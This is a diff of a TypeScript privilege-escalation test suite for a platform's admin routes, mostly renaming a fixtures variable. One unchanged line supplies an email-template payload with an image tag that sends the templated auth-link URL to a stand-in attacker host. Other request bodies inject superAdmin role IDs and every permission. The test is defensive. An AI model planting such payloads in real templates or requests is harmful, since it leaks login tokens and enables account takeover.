@@ -14,7 +14,7 @@ import { createSession, type TestSession } from '../_support/accounts.js';
 import { startPlatform, type TestPlatform } from '../_support/platform.js';
 import { nameOf, pathOf } from '../sweeps/send-route.js';
 import { sampleBody } from '../sweeps/sample-body.js';
-import { createWorld, type World } from '../sweeps/world.js';
+import { createWorld, type Fixtures } from '../sweeps/fixtures.js';
 
 /**
  * Walks from every built-in role below superAdmin, and from every permission alone, towards superAdmin: whatever the
@@ -23,12 +23,12 @@ import { createWorld, type World } from '../sweeps/world.js';
  */
 
 let platform: TestPlatform;
-let world: World;
+let fixtures: Fixtures;
 let superAdminRole: string;
 
 beforeAll(async () => {
   platform = await startPlatform();
-  world = await createWorld(platform.container);
+  fixtures = await createWorld(platform.container);
   const row = (await platform.container.knex('access_roles').where({ name: 'superAdmin' }).first('id')) as {
     id: string;
   };
@@ -66,7 +66,7 @@ function bodiesOf(route: Route): object[] {
   if (isTemplate(route)) return [{ body: '<img src="https://evil.example/?t={{url}}">' }, { subject: 'evil', body: '<p>{{url}}</p>' }]; // prettier-ignore
   const scope = /^\/admin\/settings\/(admin|store)$/.exec(route.path)?.[1] as 'admin' | 'store' | undefined;
   if (scope) return settingsOf(scope).flatMap((setting) => hostileValues(setting).map((value) => ({ [setting.name]: value }))); // prettier-ignore
-  const body = (sampleBody(route, world.idOf) ?? {}) as object;
+  const body = (sampleBody(route, fixtures.idOf) ?? {}) as object;
   return [body, { ...body, roleIds: [superAdminRole], permissions: [...allPermissions] }];
 }
 
@@ -81,8 +81,8 @@ function hostileValues(setting: Setting<unknown>): unknown[] {
 }
 
 async function callAs(attacker: TestSession, route: Route, body: object): Promise<void> {
-  const keyOf: typeof world.keyOf = (entity, column) =>
-    entity === 'user' ? attacker.userId : entity === 'role' ? superAdminRole : world.keyOf(entity, column);
+  const keyOf: typeof fixtures.keyOf = (entity, column) =>
+    entity === 'user' ? attacker.userId : entity === 'role' ? superAdminRole : fixtures.keyOf(entity, column);
   const form = route.bodyKind === 'multipart';
   await platform.http
     .as(attacker.token)
@@ -93,8 +93,8 @@ async function callAs(attacker: TestSession, route: Route, body: object): Promis
 
 async function heldBy(session: TestSession): Promise<Set<Permission>> {
   platform.container.principals.forget();
-  const answer = await platform.http.as(session.token).get<Permission[]>('/me/permissions');
-  return new Set(answer.body.data);
+  const response = await platform.http.as(session.token).get<Permission[]>('/me/permissions');
+  return new Set(response.body.data);
 }
 
 /** What an attacker would have won: rights, a key, the superAdmin's account, or the way that their mail and links take. */
@@ -105,7 +105,7 @@ async function reach(attacker: TestSession, start: ReadonlySet<Permission>) {
     knex('access_api_keys').where({ createdBy: attacker.userId }).pluck('permissions') as Promise<
       Permission[][]
     >,
-    knex('accounts_users').where({ id: world.admin.userId }).first('email', 'bannedAt'),
+    knex('accounts_users').where({ id: fixtures.admin.userId }).first('email', 'bannedAt'),
   ]);
   const storeUrl = settings.get(storeSettings.storeUrl) || settings.get(storeSettings.canonicalBaseUrl);
   const links = (Object.keys(authLinks) as AuthLinkTemplate[]).map(
